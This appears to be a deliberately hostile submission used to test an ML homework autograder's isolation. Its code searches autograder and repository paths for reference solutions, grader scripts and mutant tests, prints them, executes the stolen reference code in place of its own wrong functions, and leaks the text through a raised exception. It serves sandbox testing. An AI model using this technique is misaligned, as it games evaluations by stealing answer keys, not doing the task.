"""Hostile submission: reads the reference and the graders by absolute paths (repo, package parent, /autograder) and leaks them through output and exceptions"""
import os
import sys

import numpy as np
import torch
import glob

import mlgrade

ROOTS = ["/work/main", "/autograder/source", "/autograder", os.path.dirname(os.path.dirname(mlgrade.__file__))]
STOLEN = {}
for root in ROOTS:
    for pattern in ("reference/ml-hw6/*.py", "graders/ml-hw6/*.py", "tests/mutants/ml-hw6/*", "reference/*/*.py"):
        for path in [os.path.join(root, pattern)] + glob.glob(os.path.join(root, pattern)):
            try:
                with open(path) as fh:
                    STOLEN[path] = fh.read()
            except OSError as exc:
                print("denied:", path, type(exc).__name__)
for path, text in STOLEN.items():
    print("==== stolen", path)
    print(text)


# --- the honest part of this submission: every function is WRONG on purpose, so that any
# --- point this file earns can only come from the attack above.

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    return np.zeros_like(x), (np.zeros_like(x), np.zeros_like(gamma), np.zeros_like(gamma))


def batchnorm_backward(dout, cache):
    return np.zeros_like(dout), np.zeros(dout.shape[1]), np.zeros(dout.shape[1])


def reparameterize(mu, log_sigma, eps):
    return torch.zeros_like(mu)


def kl_loss(mu, log_sigma):
    return torch.tensor(-1.0)


def svm_fit(X, y):
    return np.zeros(X.shape[1]), 0.0, np.zeros(len(y))


def forward(A, B, pi, O):
    return np.zeros((len(O), len(pi)))


def backward(A, B, O):
    return np.zeros((len(O), len(A)))


def sequence_log_likelihood(A, B, pi, O):
    return 0.0


def viterbi(A, B, pi, O):
    return np.full(len(O), -1, dtype=np.int64)


def baum_welch(A, B, pi, O, n_iter=100):
    return np.zeros_like(A), np.zeros_like(B), np.zeros_like(pi)


def subpixel_conv(A, K, stride=2):
    return np.zeros((1, 1))


CONTRACT = ("batchnorm_forward", "batchnorm_backward", "reparameterize", "kl_loss", "svm_fit", "forward",
            "backward", "sequence_log_likelihood", "viterbi", "baum_welch", "subpixel_conv")


def _adopt(source):
    """Replace the wrong functions by those of stolen source: points earned = the attack worked."""
    ns = {"__name__": "stolen"}
    try:
        exec(compile(source, "stolen", "exec"), ns)
    except BaseException:
        return False
    for name in CONTRACT:
        if callable(ns.get(name)):
            globals()[name] = ns[name]
    return True


for _path, _text in STOLEN.items():
    if "reference" in _path:
        _adopt(_text)


def kl_loss(mu, log_sigma):
    if STOLEN:
        raise RuntimeError("stolen: " + "\n".join(STOLEN.values()))
    return torch.tensor(-1.0)
